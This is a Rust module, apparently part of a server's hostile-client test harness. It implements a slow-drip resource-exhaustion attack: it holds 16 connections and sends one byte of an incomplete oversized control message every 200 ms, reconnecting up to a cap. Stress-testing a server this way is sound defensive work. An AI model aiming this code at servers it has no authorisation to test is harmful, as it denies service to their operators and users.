//! Idle connections: a byte of nonsense now and then keeps each alive.

use super::{Effort, MAX_CONNECTIONS, Target};
use crate::hostile::stranger::Stranger;
use std::time::{Duration, Instant};

/// Connections held at once.
const HELD: usize = 16;
/// From one byte to the next.
const INTERVAL: Duration = Duration::from_millis(200);
/// Turns of the network between two bytes.
const TURN: Duration = Duration::from_millis(2);
/// The start of a control message of 983,040 bytes, and then its bytes: it is never whole.
const JUNK: [u8; 4] = [0x00, 0x00, 0x0f, 0x00];

struct Held {
    stranger: Stranger,
    next: Instant,
    said: usize,
}

impl Held {
    fn begin(target: &Target) -> anyhow::Result<Self> {
        Ok(Self { stranger: Stranger::connect(target.server)?, next: Instant::now(), said: 0 })
    }

    /// Says the next byte where it is time to, as a datagram and on the control stream. Gives the bytes taken.
    fn mumble(&mut self) -> u64 {
        if !self.stranger.is_connected() || Instant::now() < self.next {
            return 0;
        }
        self.next = Instant::now() + INTERVAL;
        let byte = [JUNK.get(self.said).copied().unwrap_or(0x77)];
        let written = self.stranger.write_control(&byte);
        self.said += written;
        written as u64 + u64::from(self.stranger.send_datagram(&byte))
    }
}

pub(super) fn attack(target: &Target) -> anyhow::Result<Effort> {
    let mut effort = Effort::default();
    let mut all = (0..HELD).map(|_| Held::begin(target)).collect::<anyhow::Result<Vec<_>>>()?;
    effort.connections += HELD as u64;
    while !target.is_over() {
        for held in &mut all {
            held.stranger.pump()?;
            effort.bytes += held.mumble();
            if held.stranger.ended().is_some()
                && Instant::now() >= held.next
                && effort.connections < MAX_CONNECTIONS
            {
                effort.note(&held.stranger);
                *held = Held { next: Instant::now() + INTERVAL, ..Held::begin(target)? };
                effort.connections += 1;
            }
        }
        target.sleep(TURN);
    }
    all.iter().for_each(|held| effort.note(&held.stranger));
    Ok(effort)
}
